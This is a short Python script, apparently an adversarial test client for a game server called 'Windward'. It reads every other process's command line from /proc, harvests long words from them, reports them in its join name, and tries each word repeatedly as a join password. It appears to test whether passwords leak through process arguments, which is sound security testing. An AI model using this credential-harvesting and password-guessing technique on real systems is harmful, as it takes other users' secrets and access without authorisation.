"""A Windward client that steals seats: it reads every other process's command line in
/proc, joins (its join name reports what it saw: processes other than itself and the
words long enough to be tokens), then tries each word as a join password, repeatedly,
while it plays.

    python3 ww_thief.py GW_PORT <host> <team> <password>"""
import os
import socket
import threading
import time
from wwlib import split_args, play, exit_on_stdin, join

own, host, team, password = split_args()
gw = int(own[0])
me = os.getpid()


def others():
    seen = {}
    for pid in os.listdir("/proc"):
        if not pid.isdigit() or int(pid) == me:
            continue
        try:
            with open("/proc/%s/cmdline" % pid, "rb") as f:
                seen[int(pid)] = f.read().split(b"\0")
        except OSError:
            pass
    return seen


seen = others()
words = sorted({w for ws in seen.values() for w in ws if len(w) >= 8})


def steal():
    deadline = time.time() + 3
    while time.time() < deadline:
        for word in words:
            try:
                with socket.create_connection((host, gw), timeout=0.5) as s:
                    join(s, "stolen", word.decode("utf-8", "replace"))
                    time.sleep(0.05)
            except OSError:
                pass
        time.sleep(0.1)


desc = ";".join("%d:%s" % (p, b" ".join(w).decode("utf-8", "replace")[:100])
                for p, w in sorted(seen.items()))
exit_on_stdin()
threading.Thread(target=steal, daemon=True).start()
play(host, gw, "thief saw=%d words=%d [%s]" % (len(seen), len(words), desc), password)
